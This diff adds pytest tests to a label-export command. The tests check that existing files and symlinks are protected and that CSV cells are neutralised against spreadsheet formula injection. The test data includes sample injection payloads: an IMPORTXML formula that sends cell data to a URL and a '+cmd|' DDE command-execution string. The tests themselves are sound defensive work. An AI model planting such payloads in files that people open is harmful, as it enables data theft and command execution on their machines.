@@ -90,6 +90,79 @@ def test_export_names_a_missing_text_column_and_an_unknown_request(raised, tmp_p
     assert "no label request 'lr-20990101-000000000000'" in capsys.readouterr().err
 
 
+def test_export_never_replaces_a_file_nor_writes_through_a_symlink(raised, tmp_path, capsys):
+    """Issue 25: ``--out`` over a CSV holding filled labels made it a blank template, and a symlink was
+    followed.  Now: exit 2 naming the file unless ``--force``; a symlink is refused even with ``--force``;
+    the write goes through a temporary file in the folder (none left behind)."""
+    m, root = raised["request"], raised["root"]
+    base = ["requests", "export", m["request_id"], "--requests-uri", root, "--format", "csv"]
+    filled = tmp_path / "filled.csv"
+    filled.write_text("response_id,oracle_label\nr1,0.7\n")
+    assert main(base + ["--out", str(filled)]) == 2
+    err = capsys.readouterr().err
+    assert err.count("\n") == 1 and f"{filled}: exists already; give --force" in err
+    assert filled.read_text() == "response_id,oracle_label\nr1,0.7\n"
+    victim = tmp_path / "victim.txt"
+    victim.write_text("keep me")
+    link = tmp_path / "link.csv"
+    link.symlink_to(victim)
+    dangling = tmp_path / "dangling.csv"
+    dangling.symlink_to(tmp_path / "nowhere.csv")
+    for path in (link, dangling):
+        for force in ([], ["--force"]):
+            assert main(base + ["--out", str(path)] + force) == 2
+            assert "symbolic link" in capsys.readouterr().err
+    assert victim.read_text() == "keep me" and not (tmp_path / "nowhere.csv").exists()
+    assert link.is_symlink() and dangling.is_symlink()
+    # label-studio writes two files: an existing labeling config also stops it before anything is written
+    (tmp_path / "ls.label_config.xml").write_text("<View/>")
+    assert main(base[:-1] + ["label-studio", "--out", str(tmp_path / "ls.json")]) == 2
+    assert not (tmp_path / "ls.json").exists() and "ls.label_config.xml" in capsys.readouterr().err
+    assert main(base + ["--out", str(filled), "--force"]) == 0
+    assert len(list(csv.DictReader(io.StringIO(filled.read_text())))) == m["n_labels"]
+    assert sorted(p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")) == []
+
+
+def test_csv_export_neutralises_formulas_and_the_filled_csv_imports_unchanged(tmp_path):
+    """Issue 25: formula cells (``=IMPORTXML(...)``, ``+cmd|...``) reached labellers' spreadsheets.  Now every
+    text cell starting with = + - @, tab or CR gets a leading ``'`` (OWASP); the filled CSV read back gives
+    the ids, texts and labels unchanged (the prefix is stripped exactly where it was added)."""
+    from flows.label_requests.answers import neutralize_csv_cell, restore_csv_cell
+    from flows.label_requests.exports import to_csv
+    from flows.pipelines.labels import read_label_file
+
+    texts = {"=r1": "=IMPORTXML(CONCAT(\"http://x/?\",A2),\"//a\")", "+r2": "+cmd|' /C calc'!A0",
+             "-r3": "-2+3", "@r4": "@SUM(1+1)", "'=r5": "\tTAB", "r6": "\rCR", "r7": "'quoted", "r8": "plain"}
+    items = [{"item_id": rid, "kind": "response", "request_id": "lr-1", "reason": "=reason", "triggers": "t",
+              "policy": "p", "dt": "2025-03-01", "stratum": None, "selection_probability": 0.5,
+              "inclusion_probability": 0.25, "label_scale": [0.0, 1.0], "prompt": f"prompt {rid}",
+              "response": text} for rid, text in texts.items()]
+    data = to_csv(items)
+    rows = list(csv.DictReader(io.StringIO(data.decode())))
+    dangerous = ("=", "+", "-", "@", "\t", "\r")
+    for row in rows:
+        for col, cell in row.items():
+            assert not cell.startswith(dangerous), (col, cell)  # safe to open in a spreadsheet
+    assert rows[0]["response"] == "'=IMPORTXML(CONCAT(\"http://x/?\",A2),\"//a\")" and rows[0]["reason"] == "'=reason"
+    assert [r["response_id"] for r in rows] == ["'=r1", "'+r2", "'-r3", "'@r4", "''=r5", "r6", "r7", "r8"]
+    assert rows[6]["response"] == "'quoted" and rows[7]["response"] == "plain"  # untouched: no formula start
+    # the labeller fills oracle_label in the spreadsheet and saves the CSV
+    labels = {rid: round(0.1 * (i + 1), 1) for i, rid in enumerate(texts)}
+    for row, rid in zip(rows, texts):
+        row["oracle_label"] = labels[rid]
+    path = tmp_path / "filled.csv"
+    with open(path, "w", newline="") as fh:
+        w = csv.DictWriter(fh, fieldnames=list(rows[0]))
+        w.writeheader()
+        w.writerows(rows)
+    table, _, _ = read_label_file(str(path))
+    assert table.column("response_id").to_pylist() == list(texts)
+    assert table.column("oracle_label").to_pylist() == [labels[r] for r in texts]
+    assert table.column("response").to_pylist() == list(texts.values())
+    for value in ["=1", "''=1", "'x", "x=", "", "-", "'"]:
+        assert restore_csv_cell(neutralize_csv_cell(value)) == value
+
+
 def test_list_and_status_count_partly_fulfilled_and_expired(raised, audit_case, capsys):
     m, root, st = raised["request"], raised["root"], raised["st"]
     _, table, result = audit_case
